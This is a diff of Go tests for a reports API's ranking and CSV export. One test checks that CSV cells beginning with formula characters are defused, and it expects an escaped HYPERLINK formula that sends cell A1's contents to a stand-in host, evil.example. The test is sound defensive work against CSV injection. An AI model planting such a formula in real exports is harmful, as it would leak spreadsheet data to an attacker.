@@ -135,7 +135,16 @@ func TestReportsRankGridsAndFollowJurisdiction(t *testing.T) {
 	if code != 200 {
 		t.Fatalf("report: %d %v", code, out)
 	}
-	items := out["items"].([]any)
+	// Lines with cases come first; the cells with cameras and no case
+	// follow with their online rate.
+	var items []any
+	for _, it := range out["items"].([]any) {
+		if it.(map[string]any)["received"].(float64) > 0 {
+			items = append(items, it)
+		} else if _, ok := it.(map[string]any)["online_rate"]; !ok {
+			t.Fatalf("a line without the online rate: %v", it)
+		}
+	}
 	if len(items) != 2 {
 		t.Fatalf("report lines: %v", items)
 	}
@@ -146,7 +155,7 @@ func TestReportsRankGridsAndFollowJurisdiction(t *testing.T) {
 	}
 	code, csvBody := admin.do("GET", "/api/v1/reports?period=week&format=csv", "", nil, true)
 	lines := strings.Split(strings.TrimSpace(strings.TrimPrefix(string(csvBody), "\ufeff")), "\n")
-	if code != 200 || len(lines) != 3 || !strings.HasPrefix(lines[0], "rank,grid,name,received") || !strings.HasPrefix(lines[1], "1,"+cellB+",") {
+	if code != 200 || len(lines) < 3 || !strings.HasPrefix(lines[0], "rank,grid,name,received") || !strings.HasPrefix(lines[1], "1,"+cellB+",") {
 		t.Fatalf("CSV: %d %q", code, csvBody)
 	}
 	a, _ := g.Grids().Get(cellA)
@@ -186,12 +195,14 @@ func TestReportCSVDefusesFormulas(t *testing.T) {
 	}
 	code, body := admin.do("GET", "/api/v1/reports?period=day&format=csv", "", nil, true)
 	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\ufeff"))).ReadAll()
-	if code != 200 || err != nil || len(rows) != 2 {
+	if code != 200 || err != nil || len(rows) < 2 {
 		t.Fatalf("CSV: %d %v %q", code, err, body)
 	}
-	for _, cell := range rows[1] {
-		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
-			t.Errorf("CSV cell %q starts like a formula", cell)
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("CSV cell %q starts like a formula", cell)
+			}
 		}
 	}
 	if rows[1][2] != `'=HYPERLINK("http://evil.example/?"&A1,"点击")` {
